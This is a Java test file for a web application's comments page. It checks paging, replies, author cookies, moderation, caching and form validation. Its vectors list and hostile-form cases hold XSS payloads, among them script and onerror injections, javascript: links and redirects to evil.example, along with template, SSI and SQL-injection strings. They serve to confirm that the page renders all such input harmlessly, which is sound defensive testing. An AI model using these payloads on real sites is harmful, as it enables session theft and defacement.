package dev.unspool.reader;

import static org.assertj.core.api.Assertions.assertThat;

import dev.unspool.announce.Announcements;
import dev.unspool.article.ArticleId;
import dev.unspool.cursor.ReaderTokens;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import java.util.stream.IntStream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.r2dbc.core.DatabaseClient;
import org.springframework.test.context.TestPropertySource;
import org.springframework.test.web.reactive.server.EntityExchangeResult;
import org.springframework.util.LinkedMultiValueMap;
import org.springframework.web.reactive.function.BodyInserters;

/** The page of an article's comments, as readers without script see it, and with hostile posts. */
@TestPropertySource(
        properties = {
            "unspool.trusted-proxies=127.0.0.0/8,::1",
            "unspool.comments.limit=5s",
            "unspool.comments.moderation.off=length,links,tricks,duplicate,pace,rate,first-time"
        })
class CommentsPageTest extends PageTest {

    private static final String PAGE = "/articles/tides/comments";

    private static final String COOKIE = "unspool-author";

    /** The elements that a comment may be rendered with. */
    private static final Set<String> PLAIN = Set.of("p", "br", "a", "details", "summary");

    @Autowired
    private DatabaseClient database;

    @Autowired
    private ReaderTokens tokens;

    @Autowired
    private Announcements announcements;

    private ArticleId article;
    private String address;
    private String browser = "";

    @BeforeEach
    void publish() {
        article = articles.publishOne("Tides", NOON);
        var random = ThreadLocalRandom.current();
        address = "10." + random.nextInt(256) + '.' + random.nextInt(256) + '.' + random.nextInt(256);
    }

    @Test
    void invitesTheFirstComment() {
        var page = page(PAGE);
        assertThat(page.select(".comments-none").text()).isEqualTo("Be the first to comment on this article!");
        assertThat(page.select("form.comment-form h3").text()).isEqualTo("Leave a Comment");
        assertThat(page.select("h1 a").attr("href")).isEqualTo("/articles/tides");
        assertThat(page.select("meta[name=robots]").attr("content")).contains("noindex");
        assertThat(page("/articles/tides").select(".comments a").attr("href")).isEqualTo(PAGE);
    }

    @Test
    void linksThroughEveryCommentOnceInBothOrders() {
        IntStream.range(0, 45).forEach(i -> add(null, "approved", "Ada", "Comment " + i, NOON.plusSeconds(i)));
        add(null, "pending", "Eve", "Hidden", NOON.plusSeconds(60));
        var newest = walk(PAGE);
        assertThat(newest).hasSize(3);
        assertThat(texts(newest))
                .isEqualTo(IntStream.range(0, 45)
                        .mapToObj(i -> "Comment " + (44 - i))
                        .toList());
        var oldest = page(PAGE).select("a[data-order=oldest]").attr("href");
        assertThat(texts(walk(oldest)))
                .isEqualTo(IntStream.range(0, 45).mapToObj(i -> "Comment " + i).toList());
        assertThat(newest.get(0).select(".thread-count").text()).isEqualTo("45 comments");
        var back = newest.get(2).select("a[rel=prev]").attr("href");
        assertThat(texts(List.of(page(back)))).isEqualTo(texts(List.of(newest.get(1))));
    }

    @Test
    void showsTheFirstRepliesAndAllOfThemOnAPageOfTheirOwn() {
        var parent = add(null, "approved", "Ada", "Question", NOON);
        IntStream.range(0, 25).forEach(i -> add(parent, "approved", "Bob", "Answer " + i, NOON.plusSeconds(i)));
        var comment = page(PAGE).selectFirst("li.comment");
        assertThat(comment.select(".replies .comment-text").eachText())
                .containsExactly("Answer 0", "Answer 1", "Answer 2");
        assertThat(comment.select(".replies [data-reply]")).isEmpty();
        var replies = walk(comment.select(".replies-more a").attr("href"));
        assertThat(replies).hasSize(2).allSatisfy(page -> {
            assertThat(page.select("h2").text()).isEqualTo("Replies");
            assertThat(page.select(".thread-parent .comment-text").text()).isEqualTo("Question");
            assertThat(page.select("form h3").text()).isEqualTo("Reply to Ada");
            assertThat(page.select("form input[name=parentId]").attr("value")).isEqualTo(parent.toString());
        });
        assertThat(replies.stream()
                        .flatMap(page -> page.select("ol.thread-list.replies .comment-text").eachText().stream()))
                .hasSize(25)
                .doesNotHaveDuplicates();
    }

    @Test
    void keepsAPlaceholderForARemovedCommentWithReplies() {
        var parent = add(null, "approved", "Mallory", "Insult", NOON);
        add(parent, "approved", "Bob", "Answer", NOON.plusSeconds(1));
        database.sql("update comment set state = 'removed' where id = :id")
                .bind("id", parent)
                .then()
                .block(LIMIT);
        var page = page(PAGE);
        assertThat(page.select(".is-removed > .comment-own").text()).isEqualTo("This comment was removed.");
        assertThat(page.select(".replies .comment-text").text()).isEqualTo("Answer");
        assertThat(page.html()).doesNotContain("Mallory", "Insult");
        assertThat(page(PAGE + "?parent=" + parent).html()).contains("Answer").doesNotContain("Mallory", "Insult");
    }

    @Test
    void acceptsAFormAndRedirectsToTheComment() {
        var answer = post(form("Ada Łódź", "First line\r\nSecond & <b>line</b>"));
        assertThat(answer.getStatus().value()).isEqualTo(303);
        var location = answer.getResponseHeaders().getLocation();
        assertThat(location.getPath()).isEqualTo(PAGE);
        assertThat(location.getQuery()).isEqualTo("order=newest&own=1");
        assertThat(answer.getResponseHeaders().getFirst("Set-Cookie"))
                .matches("(?i)unspool-author=[\\w-]+; Max-Age=86400; Expires=[^;]+; Path=/; HttpOnly; SameSite=Strict");
        var own = get(location.toString(), token(answer));
        assertThat(own.getResponseHeaders().getCacheControl()).isEqualTo("no-store");
        var comment = Jsoup.parse(text(own)).getElementById(location.getFragment());
        assertThat(comment.select(".comment-name").text()).isEqualTo("Ada Łódź");
        assertThat(comment.selectFirst(".comment-text p").wholeText()).isEqualTo("First line\nSecond & <b>line</b>");
        assertThat(page(PAGE).select("li.comment")).hasSize(1);
    }

    @Test
    void acceptsAReplyAndRedirectsToItAmongTheReplies() {
        var parent = add(null, "approved", "Ada", "Question", NOON);
        var form = form("Bob", "Answer");
        form.put("parentId", parent.toString());
        var location = post(form).getResponseHeaders().getLocation();
        assertThat(location.getQuery()).contains("parent=" + parent);
        assertThat(page(location.toString())
                        .getElementById(location.getFragment())
                        .text())
                .contains("Answer");
        assertThat(page(PAGE).select(".replies .comment-text").eachText()).containsExactly("Answer");
    }

    @Test
    void showsAPendingCommentToItsAuthorOnly() {
        var form = form("Ada", "Waiting");
        form.put("formToken", "");
        var answer = post(form);
        var location = answer.getResponseHeaders().getLocation().toString();
        var token = token(answer);
        get(PAGE); // what caches have of it must not be what its author gets
        var own = Jsoup.parse(text(get(PAGE, token)));
        assertThat(Jsoup.parse(text(get(location, token)))
                        .select(".is-waiting .comment-text")
                        .text())
                .isEqualTo("Waiting");
        assertThat(own.select(".is-waiting .comment-text").text()).isEqualTo("Waiting");
        assertThat(own.select(".is-waiting .comment-waits").text()).isEqualTo("Your comment awaits moderation");
        assertThat(own.html()).doesNotContain(token);
        assertThat(get(PAGE, token).getResponseHeaders().getCacheControl()).isEqualTo("no-store");
        assertThat(get(PAGE + "?fragment=1", token).getResponseHeaders().getCacheControl())
                .isEqualTo("no-store");
        assertThat(page(PAGE).html()).doesNotContain("Waiting");
        assertThat(page(location).html()).doesNotContain("Waiting");
        assertThat(get(location).getResponseHeaders().getCacheControl()).isEqualTo("no-store");
        assertThat(text(get(PAGE, "AAAA"))).doesNotContain("Waiting", "AAAA");
    }

    @Test
    void refusesATokenInAnAddress() {
        var form = form("Ada", "Waiting");
        form.put("formToken", "");
        var token = token(post(form));
        for (var address : List.of(PAGE + "?author=" + token, PAGE + "?fragment=1&author=" + token)) {
            var answer = get(address);
            assertThat(answer.getStatus().value()).as(address).isEqualTo(400);
            assertThat(text(answer)).as(address).doesNotContain("Waiting", token);
            assertThat(answer.getResponseHeaders().getCacheControl()).isEqualTo("no-store");
            assertThat(answer.getResponseHeaders().getFirst("Set-Cookie")).isNull();
        }
        assertThat(text(get("/articles/tides?author=" + token))).doesNotContain(token);
    }

    @Test
    void refusesAnAuthorTokenInAFormField() {
        var mallory = token(post(form("Mallory", "Mine")));
        var form = form("Ada", "Hers");
        form.put("author", mallory);
        var refused = post(form);
        assertThat(refused.getStatus().value()).isEqualTo(400);
        assertThat(refused.getResponseHeaders().getFirst("Set-Cookie")).isNull();
        assertThat(text(post(form("", "Wrong"), mallory))).doesNotContain(mallory);
    }

    @Test
    void recognisesTheAuthorByTheCookie() {
        var first = token(post(form("Ada", "One")));
        var second = token(post(form("Ada", "Two"), first));
        assertThat(tokens.readAuthor(second).orElseThrow().id())
                .isEqualTo(tokens.readAuthor(first).orElseThrow().id());
        var day = Instant.now().minusSeconds(24 * 60 * 60 + 1);
        var old = tokens.writeAuthor(tokens.readAuthor(first).orElseThrow().id(), day);
        assertThat(tokens.readAuthor(token(post(form("Ada", "Three"), old)))
                        .orElseThrow()
                        .id())
                .isNotEqualTo(tokens.readAuthor(first).orElseThrow().id());
    }

    /** All readers of a page have the same form: one behind the same address, in a like browser, may send the same words, or copy them. */
    @Test
    void givesNoTokenForARepeatedFormThatNamesNoAuthor() {
        for (var form : List.of(form("Ada", "Published"), waiting("Bob", "Waits"))) {
            var first = post(form);
            assertThat(token(first)).isNotEmpty();
            repeatSoon();
            assertRepeatedWithoutToken(form, first);
        }
        assertThat(page(PAGE).html()).doesNotContain("Waits");
    }

    @Test
    void givesTheAuthorOfARepeatedFormTheirTokenAgain() {
        var form = waiting("Ada", "Once");
        var first = post(form);
        repeatSoon();
        var again = post(form, token(first));
        assertThat(again.getResponseHeaders().getLocation())
                .isEqualTo(first.getResponseHeaders().getLocation());
        assertThat(tokens.readAuthor(token(again)).orElseThrow().id())
                .isEqualTo(tokens.readAuthor(token(first)).orElseThrow().id());
    }

    @Test
    void takesTheSameFormOfAnotherReaderForACommentOfTheirs() {
        var form = waiting("Ada", "Congratulations!");
        var first = post(form);
        repeatSoon();
        var stranger = tokens.writeAuthor(UUID.randomUUID(), Instant.now());
        var ofStranger = post(form, stranger);
        assertThat(ofStranger.getResponseHeaders().getLocation())
                .as("of a known author")
                .isNotEqualTo(first.getResponseHeaders().getLocation());
        assertThat(tokens.readAuthor(token(ofStranger)).orElseThrow().id())
                .isEqualTo(tokens.readAuthor(stranger).orElseThrow().id());
        browser = "Another/1.0";
        assertThat(token(post(form)))
                .as("in a browser of another kind")
                .isNotEqualTo(token(first))
                .isNotEmpty();
        browser = "";
        database.sql("update comment_key set at = at - interval '2 hours'")
                .then()
                .block(LIMIT);
        var late = post(form);
        assertThat(late.getResponseHeaders().getLocation())
                .as("later")
                .isNotEqualTo(first.getResponseHeaders().getLocation());
        assertThat(tokens.readAuthor(token(late)).orElseThrow().id())
                .isNotEqualTo(tokens.readAuthor(token(first)).orElseThrow().id());
    }

    /** Nothing of the neighbour's is theirs: not the comment, not its author. */
    @Test
    void takesTheFormOfAReaderWithoutCookieForNoneOfAKnownAuthors() {
        var known = tokens.writeAuthor(UUID.randomUUID(), Instant.now());
        var form = waiting("Ada", "Once");
        var first = post(form, known);
        repeatSoon();
        var other = post(form);
        assertThat(other.getResponseHeaders().getLocation())
                .isNotEqualTo(first.getResponseHeaders().getLocation());
        assertThat(tokens.readAuthor(token(other)).orElseThrow().id())
                .isNotEqualTo(tokens.readAuthor(known).orElseThrow().id());
    }

    @Test
    void makesOneCommentOfAFormThatIsSentTwice() {
        var form = form("Ada", "Once");
        var first = post(form).getResponseHeaders().getLocation();
        repeatSoon();
        var second = post(form).getResponseHeaders().getLocation();
        assertThat(second.getFragment()).isEqualTo(first.getFragment());
        assertThat(page(PAGE).select("li.comment")).hasSize(1);
        post(form("Ada", "Twice"));
        assertThat(page(PAGE).select("li.comment")).hasSize(2);
    }

    @ParameterizedTest
    @CsvSource({
        "'', Words, name, Please give a name.",
        "Ada, '', text, Please write something first.",
        "Ada, ' \n ', text, Please write something first.",
        "A\u202Eda, Words, name, 'Please give a name of one line, in letters that everybody can see.'",
        "Ada, 'a\u0007b', text, Please take out the characters that cannot be shown."
    })
    void drawsWhatIsWrongBesideItsFieldAndKeepsWhatWasTyped(String name, String text, String field, String words) {
        var answer = post(form(name, text));
        assertThat(answer.getStatus().value()).isEqualTo(422);
        assertThat(answer.getResponseHeaders().getCacheControl()).isEqualTo("no-store");
        var page = Jsoup.parse(text(answer));
        var input = page.selectFirst("form [name=" + field + "]");
        assertThat(input.attr("aria-invalid")).isEqualTo("true");
        assertThat(input.hasAttr("autofocus")).isTrue();
        assertThat(page.getElementById(input.attr("aria-describedby").split(" ")[0])
                        .text())
                .isEqualTo(words);
        assertThat(page.select("form input[name=name]").attr("value")).isEqualTo(name);
        assertThat(page.select("form textarea").first().wholeText().strip()).isEqualTo(text.strip());
        assertThat(page.select("form [autofocus]")).hasSize(1);
    }

    @Test
    void showsATextThatIsTooLongAgain() {
        var text = "😀".repeat(5_001);
        var page = Jsoup.parse(text(post(form("Ada", text))));
        assertThat(page.select(".field-error").eachText()).contains("Please shorten it: at most 5,000 characters.");
        assertThat(page.select("form textarea").first().wholeText().strip()).isEqualTo(text);
        assertThat(post(form("Ada", "😀".repeat(5_000))).getStatus().value()).isEqualTo(303);
    }

    @Test
    void showsTheTextAgainIfCommentsAreClosed() {
        database.sql(
                        "insert into comment_setting (article_id, mode, set_by, set_at) values (:article, 'closed', 'test', now())")
                .bind("article", article.value())
                .then()
                .block(LIMIT);
        var answer = post(form("Ada", "Too late"));
        assertThat(answer.getStatus().value()).isEqualTo(403);
        var page = Jsoup.parse(text(answer));
        assertThat(page.select(".comment-closed").text()).contains("Nobody can comment on this article any more.");
        assertThat(page.select("textarea[readonly]").text()).isEqualTo("Too late");
        assertThat(page(PAGE).select("form.comment-form")).isEmpty();
    }

    @Test
    void answersAFloodWithAPageThatSaysWhenToTryAgain() {
        // More than 20 on a slow machine, where the limit gives some back meanwhile.
        var last = IntStream.range(0, 1_000)
                .mapToObj(i -> post(form("Ada", "Flood " + i)))
                .filter(answer -> answer.getStatus().value() == 429)
                .findFirst()
                .orElseThrow();
        assertThat(last.getResponseHeaders().getFirst("Retry-After")).isNotNull();
        assertThat(Jsoup.parse(text(last)).select(".notice-advice").text()).startsWith("Please wait a minute");
    }

    @ParameterizedTest
    @CsvSource(
            nullValues = "-",
            value = {
                "cross-site, -, 403",
                "same-site, -, 403",
                "cross-site, http://localhost, 403",
                "-, https://evil.example, 403",
                "-, null, 403",
                "-, http://localhost.evil.example, 403",
                "same-origin, null, 303",
                "none, -, 303",
                "-, -, 303",
                "-, HERE, 303"
            })
    void takesNoFormOfAnotherSite(@Nullable String fetched, @Nullable String origin, int status) {
        var here = "http://localhost:"
                + URI.create(client.get()
                                .uri(PAGE)
                                .exchange()
                                .returnResult(byte[].class)
                                .getUrl()
                                .toString())
                        .getPort();
        var answer = client.post()
                .uri(PAGE)
                .header("X-Forwarded-For", address)
                .headers(headers -> {
                    if (fetched != null) {
                        headers.set("Sec-Fetch-Site", fetched);
                    }
                    if (origin != null) {
                        headers.set("Origin", origin.equals("HERE") ? here : origin);
                    }
                })
                .contentType(MediaType.APPLICATION_FORM_URLENCODED)
                .bodyValue("name=Ada&text=Words")
                .exchange()
                .expectBody()
                .returnResult();
        assertThat(answer.getStatus().value()).isEqualTo(status);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = ' ',
            value = {
                "name=%zz&text=x 400",
                "name=%&text=x 400",
                "=&&==&=x 400",
                "x 400",
                "%00=%00&name=%00&text=%00 400",
                "name=Ada&text=%C0%AF%FF 303",
                "name=Ada&name=Eve&text=x&text=y 400",
                "name=Ada&text=x&parentId=1 422",
                "name=Ada&text=x&parentId=00000000-0000-7000-8000-000000000000 422",
                "name=Ada&text=x&author=%22%3E%3Cscript%3E 400",
                "name=&text=x&author=%22%3E%3Cscript%3E&formToken=%22%3E%3Cscript%3E 400",
                "name=&text=x&formToken=%22%3E%3Cscript%3E 422"
            })
    void answersHostileFormsClearly(String body, int status) {
        var answer = raw(PAGE, body, MediaType.APPLICATION_FORM_URLENCODED);
        assertThat(answer.getStatus().value()).isEqualTo(status);
        assertThat(text(answer)).doesNotContain("\"><script>");
    }

    @Test
    void refusesInvalidOrOversizedForms() {
        var form = MediaType.APPLICATION_FORM_URLENCODED;
        assertThat(raw(PAGE, "{}", MediaType.APPLICATION_JSON).getStatus().value())
                .isEqualTo(415);
        assertThat(raw(PAGE, "text=" + "x".repeat(300_000), form).getStatus().value())
                .isEqualTo(413);
        assertThat(raw(PAGE, "a=b&".repeat(60_000), form).getStatus().value()).isEqualTo(400);
        assertThat(raw("/articles/nothing/comments", "name=Ada&text=x", form)
                        .getStatus()
                        .value())
                .isEqualTo(404);
        articles.retract(article);
        assertThat(raw(PAGE, "name=Ada&text=x", form).getStatus().value()).isEqualTo(410);
        assertThat(get(PAGE).getStatus().value()).isEqualTo(410);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "?cursor=x",
                "?order=sideways",
                "?parent=x",
                "?limit=0",
                "?limit=101",
                "?fragment=1&cursor=%00",
            })
    void refusesWhatItDidNotGiveOut(String query) {
        assertThat(get(PAGE + query).getStatus().value()).isEqualTo(400);
    }

    @Test
    void answersNotFoundForUnknownAddresses() {
        articles.publishOne("Ebb", NOON.minusSeconds(1));
        var elsewhere = add(null, "approved", "Ada", "Words", NOON);
        for (var path : List.of(
                "/articles/ebb/comments?fragment=1&only=" + elsewhere,
                "/articles/nothing/comments?fragment=1&only=" + elsewhere,
                "/articles/nothing/comments",
                PAGE + "?fragment=1&only=x",
                PAGE + "?fragment=1&only=" + UUID.randomUUID(),
                PAGE + "?parent=" + UUID.randomUUID())) {
            assertThat(get(path).getStatus().value()).as(path).isEqualTo(404);
        }
    }

    @Test
    void rendersTheSamePartsForTheScript() {
        var comment = add(null, "approved", "Ada", "Words", NOON);
        var thread = Jsoup.parseBodyFragment(text(get(PAGE + "?fragment=1"))).body();
        assertThat(thread.children()).singleElement().satisfies(element -> {
            assertThat(element.attr("data-count")).isEqualTo("1");
            assertThat(element.attr("data-article")).isEqualTo(article.toString());
            assertThat(element.select("form[data-form] input[name=formToken]").attr("value"))
                    .isNotBlank();
        });
        var only = Jsoup.parseBodyFragment(text(get(PAGE + "?fragment=1&only=" + comment)))
                .body();
        assertThat(only.children())
                .singleElement()
                .satisfies(element -> assertThat(element.outerHtml())
                        .isEqualTo(thread.selectFirst("li.comment").outerHtml()));
        assertThat(get(PAGE + "?fragment=1").getResponseHeaders().getFirst("X-Robots-Tag"))
                .isEqualTo("noindex");
    }

    @Test
    void isCachedBrieflyAndHasAnotherETagAfterAChange() {
        var first = get(PAGE + "?fragment=1").getResponseHeaders();
        assertThat(first.getCacheControl()).isEqualTo("public, max-age=0, s-maxage=5, stale-while-revalidate=30");
        assertThat(first.getFirst("Surrogate-Key")).isEqualTo("comments-" + article + " article-" + article);
        assertThat(first.getVary()).contains("Unspool-Author");
        client.get()
                .uri(PAGE + "?fragment=1")
                .header("If-None-Match", first.getETag())
                .exchange()
                .expectStatus()
                .isNotModified();
        add(null, "approved", "Ada", "Words", NOON);
        assertThat(get(PAGE + "?fragment=1").getResponseHeaders().getETag()).isNotEqualTo(first.getETag());
    }

    /** A shared cache would keep one copy for each value. */
    @ParameterizedTest
    @ValueSource(strings = {"", "?fragment=1", "?fragment=1&only="})
    void isNeverCachedWithAnAuthorHeader(String query) {
        var comment = add(null, "approved", "Ada", "Words", NOON);
        var path = PAGE + (query.endsWith("only=") ? query + comment : query);
        for (var value : List.of("junk", "", "other junk")) {
            client.get()
                    .uri(path)
                    .header("Unspool-Author", value)
                    .exchange()
                    .expectStatus()
                    .isOk()
                    .expectHeader()
                    .valueEquals("Cache-Control", "no-store")
                    .expectHeader()
                    .doesNotExist("Surrogate-Key");
        }
    }

    @ParameterizedTest
    @MethodSource("vectors")
    void rendersCommentsAsText(String vector) {
        post(form("Ada", vector));
        add(null, "approved", vector.length() > 60 ? vector.substring(0, 60) : vector, "By name", NOON);
        var page = page(PAGE);
        assertThat(page.select(".comment-text").eachText()).contains(normalised(vector), "By name");
        for (var element : page.select(".comment-text *")) {
            assertThat(PLAIN).contains(element.tagName());
            assertThat(attributes(element)).isSubsetOf("href", "target", "rel", "dir");
            assertThat(element.attr("href")).matches("|https?://.*");
        }
        assertThat(page.select(".comment-name > bdi > *")).isEmpty();
        assertThat(page.select("script").eachAttr("src")).allMatch(src -> src.startsWith("/assets/"));
        assertThat(page.select("iframe, object, embed, svg, math, style, img, base, meta[http-equiv]"))
                .isEmpty();
        assertThat(page.getAllElements())
                .allMatch(element ->
                        attributes(element).stream().noneMatch(name -> name.startsWith("on") || name.equals("style")));
        assertThat(page.select("form")).hasSize(1);
    }

    /**
     * Returns texts of the kinds that public collections contain: tags, broken tags, attributes, addresses, encodings, templates, and ways
     * out of a context.
     */
    static List<String> vectors() {
        return List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=`x` onerror=alert(1)//",
                "<svg onload=alert(1)>",
                "<svg><script>alert&#40;1&#41;</script>",
                "<svg/onload=&#97;lert(1)>",
                "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
                "<iframe src=javascript:alert(1)>",
                "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
                "<body onload=alert(1)>",
                "<details open ontoggle=alert(1)>",
                "<input autofocus onfocus=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "<base href=//evil.example/>",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<style>@import '//evil.example/x.css';</style>",
                "<form action=//evil.example><input name=token>",
                "<textarea><script>alert(1)</script>",
                "</textarea><script>alert(1)</script>",
                "</title><script>alert(1)</script>",
                "--><script>alert(1)</script><!--",
                "]]><script>alert(1)</script>",
                "\"><script>alert(1)</script>",
                "' onmouseover='alert(1)",
                "\" onmouseover=\"alert(1)",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;script&#62;alert(1)&#60;/script&#62;",
                "%3Cscript%3Ealert(1)%3C/script%3E",
                "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
                "＜script＞alert(1)＜/script＞",
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                "${7*7} #{7*7} {{7*7}} <%= 7*7 %> @if(true)x@endif $unsafe{x}",
                "javascript:alert(1)",
                "https://example.org/\"onmouseover=\"alert(1)",
                "https://example.org/'onmouseover='alert(1)",
                "https://example.org/<script>alert(1)</script>",
                "https://example.org/?x=`${alert(1)}`",
                "https://example.org/&quot;&gt;&lt;script&gt;",
                "http://javascript:alert(1)@example.org/",
                "[x](javascript:alert(1)) ![x](x\"onerror=\"alert(1))",
                "[url=javascript:alert(1)]x[/url]",
                "<!--#exec cmd=\"ls\"--><?php echo 1 ?>",
                "'; drop table comment; --",
                "\u202E\u2066<b>x</b>\u2069",
                "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357a\u0358\u0359\u035Alg\u035B\u035Co",
                "مرحبا <b>بالعالم</b> https://example.org/",
                "👩‍👩‍👧‍👦 <i>family</i> 🏳️‍🌈");
    }

    private UUID add(@Nullable UUID parent, String state, String name, String text, Instant at) {
        var id = UUID.randomUUID();
        var insert = database.sql(
                        "insert into comment (id, article_id, parent_id, state, name, text, created_at, author_id) "
                                + "values (:id, :article, " + (parent == null ? "null" : ":parent")
                                + ", :state, :name, :text, :at, :author)")
                .bind("id", id)
                .bind("article", article.value())
                .bind("state", state)
                .bind("name", name)
                .bind("text", text)
                .bind("at", at)
                .bind("author", UUID.randomUUID());
        (parent == null ? insert : insert.bind("parent", parent))
                .then()
                .then(announcements.commentsChanged(article))
                .block(LIMIT);
        return id;
    }

    /** Returns a form that was open for a while. */
    private Map<String, String> form(String name, String text) {
        var form = new LinkedHashMap<String, String>();
        form.put("name", name);
        form.put("text", text);
        form.put("formToken", tokens.writeForm(article, Instant.now().minusSeconds(10)));
        form.put("website", "");
        return form;
    }

    /** Returns a form whose comment a moderator has to look at. */
    private Map<String, String> waiting(String name, String text) {
        var form = form(name, text);
        form.put("formToken", "");
        return form;
    }

    /** Has the form that comes next follow the one before at once, however slow the machine is. */
    private void repeatSoon() {
        database.sql("update comment_key set at = now() + interval '1 hour'")
                .then()
                .block(LIMIT);
    }

    private void assertRepeatedWithoutToken(Map<String, String> form, EntityExchangeResult<byte[]> first) {
        var again = post(form);
        assertThat(again.getResponseHeaders().getLocation())
                .isEqualTo(first.getResponseHeaders().getLocation());
        assertThat(again.getResponseHeaders().getFirst("Set-Cookie")).isNull();
    }

    private EntityExchangeResult<byte[]> post(Map<String, String> form) {
        return post(form, "");
    }

    private EntityExchangeResult<byte[]> post(Map<String, String> form, String token) {
        var body = new LinkedMultiValueMap<String, String>();
        form.forEach(body::add);
        return client.post()
                .uri(PAGE)
                .header("X-Forwarded-For", address)
                .header("User-Agent", browser)
                .cookie(COOKIE, token)
                .body(BodyInserters.fromFormData(body))
                .exchange()
                .expectBody()
                .returnResult();
    }

    /** Requests an address with an author's cookie. */
    private EntityExchangeResult<byte[]> get(String address, String token) {
        return client.get()
                .uri(address)
                .cookie(COOKIE, token)
                .exchange()
                .expectBody()
                .returnResult();
    }

    private static String token(EntityExchangeResult<byte[]> answer) {
        return answer.getResponseCookies().getFirst(COOKIE).getValue();
    }

    private EntityExchangeResult<byte[]> raw(String path, String body, MediaType type) {
        return client.post()
                .uri(path)
                .header("X-Forwarded-For", address)
                .contentType(type)
                .bodyValue(body.getBytes(StandardCharsets.UTF_8))
                .exchange()
                .expectBody()
                .returnResult();
    }

    private static List<String> texts(List<Document> pages) {
        return pages.stream()
                .flatMap(page -> page.select(".comment-text").eachText().stream())
                .toList();
    }

    private static List<String> attributes(Element element) {
        return element.attributes().asList().stream()
                .map(attribute -> attribute.getKey())
                .toList();
    }

    /** Normalises as Jsoup does: several blanks become one. */
    private static String normalised(String text) {
        return text.replaceAll("\\s+", " ").strip();
    }
}
